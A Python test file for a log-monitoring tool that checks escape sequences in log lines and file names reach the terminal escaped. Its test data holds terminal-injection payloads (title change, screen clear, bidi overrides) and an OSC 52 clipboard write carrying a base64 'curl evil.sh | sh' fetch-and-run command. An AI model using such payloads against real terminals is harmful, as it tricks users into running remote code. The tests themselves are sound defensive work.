"""A log line's escape sequences reach no terminal raw (issue 18, item 11): ``scan``
(text and JSON), ``status`` and the ``console://`` channel show them escaped.

Each dangerous sequence goes through each boundary; the check of the output does not
use ``terminal.shown``'s own pattern but Unicode's categories.
"""

from __future__ import annotations

import base64
import io
import json
import os
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
import structlog
from hypothesis import given
from hypothesis import strategies as st

from logwatch.alerts.render import render
from logwatch.app import logs
from logwatch.core.config import config_from_text
from logwatch.core.model import Alert, AlertKind, FileState
from logwatch.core.terminal import shown
from logwatch.deliver.notifier import Notifier
from logwatch.match.engine import Engine
from logwatch.match.stream import Stream
from logwatch.store.state import State
from tests.daemon_run import logwatch
from tests.fakes import FakeClock
from tests.samples import shipped_rules

#: what a line may carry to act on a terminal, by what it does
SEQUENCES = {
    "title": "\x1b]0;pwned\x07",
    "clear": "\x1b[2J\x1b[H",
    "clipboard": f"\x1b]52;c;{base64.b64encode(b'curl evil.sh | sh').decode()}\x07",
    "c1_csi": "\x9b2J",
    "c1_osc": "\x9d0;pwned\x9c",
    "carriage_return": "\rall fine ",
    "backspace": "\x08\x08\x08",
    "delete": "\x7f",
    "bidi_override": "\u202eexe.txt\u202c",
    "bidi_isolate": "\u2066x\u2069",
    "line_separator": "\u2028",
}
NAMES = list(SEQUENCES)
_BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F))}
_BIDI |= set(map(chr, range(0x2066, 0x206A)))


def raw_controls(text: str, allowed: str = "\n") -> list[str]:
    """The characters of ``text`` a terminal would act on (controls, separators and
    bidi formatting), but those ``allowed``."""
    return [
        c
        for c in text
        if c not in allowed
        and (unicodedata.category(c) in ("Cc", "Zl", "Zp") or c in _BIDI)
    ]


def margin(seq: str) -> str:
    return (
        f"Refuse (Binance{seq}Futures): Margin is insufficient. (BTCUSDT) tail{seq}end"
    )


def unknown_code(seq: str) -> str:
    """A code the catalogue does not know: its title is the exchange's own words."""
    return f'binance {{"code":-9998,"msg":"New{seq}text"}}'


def near_miss(seq: str) -> str:
    return f"binance: too many requests per second allowed {seq}"


def environ(home: Path, rules_cache: Path) -> dict[str, str]:
    """A module fixture's processes: set up before the autouse fixture cleans the
    environment, so cleaned here the same way."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("LOGWATCH_")}
    return {**env, "HOME": str(home), "LOGWATCH_CACHE_DIR": str(rules_cache)}


class TestShown:
    @pytest.mark.parametrize("name", NAMES)
    def test_each_sequence_is_written_as_visible_escapes(self, name: str) -> None:
        seq = SEQUENCES[name]
        out = shown(f"a{seq}b")
        assert raw_controls(out, allowed="") == []
        assert (out[0], out[-1]) == ("a", "b")
        assert json.loads(f'"{out}"') == f"a{seq}b"  # the JSON form, read back

    def test_tab_and_newline_are_kept_for_the_layout_unless_not_wanted(self) -> None:
        assert shown("a\tb\nc") == "a\tb\nc"
        assert shown("a\tb\nc", keep="") == "a\\u0009b\\u000ac"

    def test_plain_text_comes_back_as_it_was(self) -> None:
        text = r"C:\Logs\ж.log: Margin is insufficient 😀 (BTCUSDT) ‐ ok"
        assert shown(text) is text

    @given(st.text())
    def test_nothing_a_terminal_acts_on_is_left(self, text: str) -> None:
        assert raw_controls(shown(text), allowed="\t\n") == []

    @given(st.recursive(st.text(), lambda inner: st.dictionaries(st.text(), inner)))
    def test_a_json_text_stays_json_with_the_same_values(self, value: object) -> None:
        for indent in (None, 2):
            text = shown(json.dumps(value, ensure_ascii=False, indent=indent))
            assert json.loads(text) == value
            assert raw_controls(text) == []


@pytest.fixture(scope="module")
def scanned(
    tmp_path_factory: pytest.TempPathFactory, rules_cache: Path
) -> dict[str, str]:
    """``logwatch scan`` of one file holding every sequence, as text and as JSON."""
    home = tmp_path_factory.mktemp("scan")
    env = environ(home, rules_cache)
    log = home / "bot.log"
    with log.open("w", encoding="utf-8", newline="\n") as fh:
        for seq in SEQUENCES.values():
            fh.write(f"{margin(seq)}\n{unknown_code(seq)}\n{near_miss(seq)}\n")
    text = logwatch(
        "scan", "--lang", "en", "--show-misses", str(log), env=env, timeout=120
    )
    as_json = logwatch("scan", "--lang", "en", "--json", str(log), env=env, timeout=120)
    assert text.returncode == 0, text.stderr
    assert as_json.returncode == 0, as_json.stderr
    return {
        "text": text.stdout,
        "text_err": text.stderr,
        "json": as_json.stdout,
        "json_err": as_json.stderr,
    }


class TestScan:
    @pytest.mark.timeout(300)
    def test_no_output_holds_a_raw_control(self, scanned: dict[str, str]) -> None:
        for name, out in scanned.items():
            assert raw_controls(out) == [], name

    @pytest.mark.timeout(300)
    @pytest.mark.parametrize("name", NAMES)
    def test_the_text_shows_each_sequence_escaped(
        self, scanned: dict[str, str], name: str
    ) -> None:
        seq = shown(SEQUENCES[name])
        out = scanned["text"]
        assert f"tail{seq}end" in out  # the line under its hit
        assert f"binance.unknown-error: New{seq}text" in out  # the title
        assert f"per second allowed {seq}\n" in out  # the near miss

    @pytest.mark.timeout(300)
    @pytest.mark.parametrize("name", NAMES)
    def test_json_keeps_each_value_as_it_was(
        self, scanned: dict[str, str], name: str
    ) -> None:
        seq = SEQUENCES[name]
        hits = [json.loads(line) for line in scanned["json"].splitlines()]
        texts = {h["text"] for h in hits}
        assert margin(seq) in texts
        assert unknown_code(seq) in texts
        assert f"New{seq}text" in {h["title"] for h in hits}


@pytest.fixture(scope="module")
def status(
    tmp_path_factory: pytest.TempPathFactory, rules_cache: Path
) -> dict[str, str]:
    """``logwatch status`` of a state that follows files named with every sequence
    (a file name is as much the log writer's as its lines)."""
    home = tmp_path_factory.mktemp("status")
    state = State(home / "state" / "state.db", FakeClock())
    state.commit(
        files=[
            FileState(
                id=f"id-{name}",
                fp_hash=b"h",
                fp_n=1,
                path=f"/logs/{seq}{name}.log",
                offset=10,
                marker=b"m",
                line=3,
                last_seen=0.0,
            )
            for name, seq in SEQUENCES.items()
        ]
    )
    state.close()
    config = home / "config.yaml"
    config.write_text(f"state_dir: {home / 'state'}\n", encoding="utf-8")
    env = environ(home, rules_cache)
    text = logwatch("status", "--config", str(config), env=env, timeout=120)
    as_json = logwatch(
        "status", "--json", "--config", str(config), env=env, timeout=120
    )
    assert text.returncode == 0, text.stderr
    assert as_json.returncode == 0, as_json.stderr
    return {"text": text.stdout, "json": as_json.stdout}


class TestStatus:
    @pytest.mark.timeout(300)
    def test_no_output_holds_a_raw_control(self, status: dict[str, str]) -> None:
        for name, out in status.items():
            assert raw_controls(out) == [], name

    @pytest.mark.timeout(300)
    @pytest.mark.parametrize("name", NAMES)
    def test_each_file_is_listed_escaped(
        self, status: dict[str, str], name: str
    ) -> None:
        path = f"/logs/{SEQUENCES[name]}{name}.log"
        assert f"  {shown(path)}: 2 lines read (10 bytes)" in status["text"]
        files = json.loads(status["json"])["files"]
        assert path in {f["path"] for f in files}


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(shipped_rules())


class TestConsoleChannel:
    @pytest.mark.parametrize("name", NAMES)
    def test_an_alert_of_the_line_is_printed_escaped(
        self, engine: Engine, capsys: pytest.CaptureFixture[str], name: str
    ) -> None:
        seq = SEQUENCES[name]
        stream = Stream(engine, "/logs/bot.log")
        scan = stream.feed(f"{margin(seq)}\n".encode())
        scan.extend(stream.flush())
        (hit,) = scan.hits
        alert = Alert(
            id="a1",
            kind=AlertKind.FIRST,
            rule_id=hit.rule_id,
            severity=hit.severity,
            fingerprint="fp",
            created_at=datetime(2026, 11, 24, 12, 0, tzinfo=UTC),
            hit=hit,
        )
        rule = {r.id: r for r in engine.rules}[hit.rule_id]
        notifier = Notifier(
            config_from_text("channels:\n  - {name: c, url: 'console://'}\n", {})
        )
        delivery = notifier.send("c", render(alert, rule, "en"), hit.severity)
        assert delivery.ok
        err = capsys.readouterr().err
        assert f"Line: {shown(margin(seq))}" in err
        assert raw_controls(err) == []


class TestOwnLog:
    """logwatch's own log names files and quotes lines (self-alerts): on a terminal,
    or in the JSON a journal reader prints."""

    @pytest.mark.parametrize("as_json", [False, True], ids=["console", "json"])
    def test_every_sequence_of_a_logged_value_is_escaped(self, as_json: bool) -> None:
        stream, clock = io.StringIO(), FakeClock()
        logs.configure(stream, as_json=as_json, clock=clock)
        for name, seq in SEQUENCES.items():
            structlog.get_logger("test").warning(
                "line_skipped", path=f"/logs/{seq}.log", name=name
            )
            clock.advance(logs.THROTTLE_WINDOW_S)  # none held back by the throttle
        out = stream.getvalue()
        assert out.count("line_skipped") == len(SEQUENCES)
        assert raw_controls(out) == []
        if as_json:
            paths = [json.loads(line)["path"] for line in out.splitlines()]
            assert paths == [f"/logs/{seq}.log" for seq in SEQUENCES.values()]
